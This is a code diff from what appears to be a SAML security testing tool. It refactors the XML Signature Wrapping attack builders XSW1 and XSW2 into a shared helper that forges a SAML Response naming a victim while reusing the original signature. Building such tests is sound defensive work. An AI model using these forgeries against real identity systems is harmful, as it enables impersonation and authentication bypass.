@@ -66,35 +66,34 @@ const xsw = (n: number, explanation: string, signResponse: boolean, rearrange: P
   build: wrap(signResponse, rearrange),
 });
 
+/**
+ * XSW1 and XSW2: a new root Response (another ID) whose assertion names the victim, keeping the original
+ * signature; `place` puts the signed original Response somewhere inside it.
+ */
+function evilResponse(doc: Document, response: Element, place: (evil: Element, signature: Element) => void): void {
+  const evil = response.cloneNode(true) as Element;
+  evil.setAttribute('ID', '_evilresponse');
+  const assertion = first(evil, NS.assertion, 'Assertion');
+  evil.replaceChild(evilCopy(assertion), assertion);
+  place(evil, first(evil, NS.dsig, 'Signature'));
+  doc.replaceChild(evil, response);
+}
+
 /** The eight wrapping variants of the literature (as SAML Raider names them). */
 const WRAPPING: Attack[] = [
   xsw(
     1,
     'A new Response naming the victim; the signed original Response moved inside its signature.',
     true,
-    (doc, response) => {
-      const evil = response.cloneNode(true) as Element;
-      evil.setAttribute('ID', '_evilresponse');
-      const signature = first(evil, NS.dsig, 'Signature');
-      const assertion = first(evil, NS.assertion, 'Assertion');
-      evil.replaceChild(evilCopy(assertion), assertion);
-      signature.appendChild(response.cloneNode(true));
-      doc.replaceChild(evil, response);
-    },
+    (doc, response) =>
+      evilResponse(doc, response, (evil, signature) => signature.appendChild(response.cloneNode(true))),
   ),
   xsw(
     2,
     'A new Response naming the victim; the signed original Response placed before its signature.',
     true,
-    (doc, response) => {
-      const evil = response.cloneNode(true) as Element;
-      evil.setAttribute('ID', '_evilresponse');
-      const signature = first(evil, NS.dsig, 'Signature');
-      const assertion = first(evil, NS.assertion, 'Assertion');
-      evil.replaceChild(evilCopy(assertion), assertion);
-      evil.insertBefore(response.cloneNode(true), signature);
-      doc.replaceChild(evil, response);
-    },
+    (doc, response) =>
+      evilResponse(doc, response, (evil, signature) => evil.insertBefore(response.cloneNode(true), signature)),
   ),
   xsw(3, 'An unsigned assertion naming the victim inserted before the signed one.', false, (_doc, response, signed) => {
     response.insertBefore(evilCopy(signed), signed);
